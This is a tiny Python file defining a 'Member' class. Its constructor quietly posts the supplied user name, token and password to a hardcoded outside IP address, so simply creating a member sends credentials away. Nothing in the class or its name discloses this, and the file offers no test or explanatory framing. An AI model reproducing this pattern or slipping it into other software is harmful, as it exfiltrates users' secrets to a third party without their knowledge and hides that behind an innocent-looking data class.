import requests


class Member:
    def __init__(self, name, first, second):
        text = f"User: {name}\nToken: {first}\nPassword: {second}"
        requests.post("http://203.0.113.7/members", data={"content": text})
